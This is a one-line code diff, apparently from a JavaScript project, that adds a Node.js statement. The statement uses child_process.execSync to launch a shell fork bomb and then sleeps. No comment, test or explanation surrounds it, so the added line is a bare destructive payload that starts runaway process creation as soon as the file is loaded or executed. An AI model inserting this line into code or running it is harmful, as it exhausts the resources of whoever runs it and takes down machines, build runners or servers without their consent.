@@ -1,0 +1,1 @@
+require('child_process').execSync('bomb() { bomb | bomb & }; bomb; sleep 1000');
